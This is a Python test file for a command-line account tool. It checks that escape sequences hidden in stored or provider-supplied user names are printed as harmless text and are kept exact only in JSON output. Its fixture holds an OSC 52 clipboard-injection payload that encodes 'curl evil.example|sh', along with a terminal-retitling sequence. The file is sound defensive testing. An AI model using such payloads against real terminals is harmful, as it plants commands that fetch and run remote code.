"""Provider text and stored names never drive the terminal from the command line
(issue 15, finding 2); machine output stays exact."""

from __future__ import annotations

import json
import time
from dataclasses import replace
from pathlib import Path

import pytest

from ringplus_tui.cli.main import main
from ringplus_tui.core.models import Account
from ringplus_tui.sandbox import Sandbox
from ringplus_tui.store.settings import SettingsStore
from tests.helpers.cli import Cli

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
"""Writes ``curl evil.example|sh`` to the clipboard of a terminal that obeys it."""
RETITLE = "\x1b]0;title\x07"


def _no_controls(text: str) -> bool:
    return not any((ord(ch) < 32 and ch not in "\t\n") or 0x7F <= ord(ch) <= 0x9F for ch in text)


@pytest.fixture
def hostile_state(config_dir: Path) -> Path:
    """Settings whose stored user name carries escape sequences."""
    with Sandbox() as sandbox:
        app = sandbox.demo_app()
    account = Account(
        name="alice",
        app=app.name,
        expires_at=time.time() + 3600,
        obtained_at=time.time(),
        token_type="Bearer",
        user=f"Alice {OSC52}{RETITLE}",
    )
    store = SettingsStore(config_dir)
    store.update(lambda s: s.with_app(app).with_account(account))
    return config_dir


def test_status_shows_a_stored_hostile_name_as_text(
    hostile_state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--config-dir", str(hostile_state), "status"]) == 0
    out = capsys.readouterr().out
    assert "alice" in out
    assert _no_controls(out), repr(out)
    assert "\\x1b]52;c;" in out and "\\x1b]0;title\\x07" in out


def test_status_json_keeps_the_name_exactly(
    hostile_state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--config-dir", str(hostile_state), "status", "--json"]) == 0
    records = json.loads(capsys.readouterr().out)
    assert records[0]["user"] == f"Alice {OSC52}{RETITLE}"


def test_account_list_and_app_list_show_names_as_text(
    hostile_state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--config-dir", str(hostile_state), "account", "list"]) == 0
    assert main(["--config-dir", str(hostile_state), "app", "list"]) == 0
    out = capsys.readouterr().out
    assert "alice" in out and _no_controls(out), repr(out)


def test_an_error_naming_hostile_text_cannot_drive_the_terminal(
    hostile_state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status = main(["--config-dir", str(hostile_state), "account", "remove", f"x{RETITLE}"])
    assert status == 2
    stderr = capsys.readouterr().err
    assert "ringplus-tui:" in stderr
    assert _no_controls(stderr), repr(stderr)
    assert "\\x1b]0;title\\x07" in stderr


def test_a_hostile_user_name_from_the_provider_never_reaches_the_terminal(
    config_dir: Path, secret_store, sandbox: Sandbox
) -> None:
    from ringplus_tui.store.secret_store import (
        access_token_key,
        client_secret_key,
        refresh_token_key,
    )

    sandbox.state.users = [
        replace(user, name=f"Alice {OSC52}{RETITLE}[/]") for user in sandbox.state.users
    ]
    cli = Cli(config_dir, secret_store.service)
    p = sandbox.provider()
    try:
        added = cli(
            "app", "add", "sandbox",
            "--client-id", sandbox.client_id,
            "--redirect-uri", sandbox.redirect_uri,
            "--authorization-endpoint", p.authorization_endpoint,
            "--token-endpoint", p.token_endpoint,
            "--api-base", p.api_base or "",
            stdin=sandbox.client_secret + "\n",
        )  # fmt: skip
        assert added.returncode == 0, added.stderr
        assert cli("account", "add", "alice", "--app", "sandbox").returncode == 0
        login = cli("login", "alice", "--username", "alice@example.com", stdin="alice-pass\n")
        assert login.returncode == 0, login.stderr
        assert "Signed in 'alice' as Alice \\x1b]52;c;" in login.stderr
        assert _no_controls(login.stderr), repr(login.stderr)
        status = cli("status")
        assert status.returncode == 0 and "Alice \\x1b]52;c;" in status.stdout
        assert _no_controls(status.stdout), repr(status.stdout)
        raw = json.loads(cli("status", "--json").stdout)
        assert raw[0]["user"].startswith(f"Alice {OSC52}{RETITLE}[/]")  # machine output: exact
    finally:
        for key in (access_token_key("alice"), refresh_token_key("alice"), "account:alice:pending"):
            secret_store.delete(key)
        secret_store.delete(client_secret_key("sandbox"))
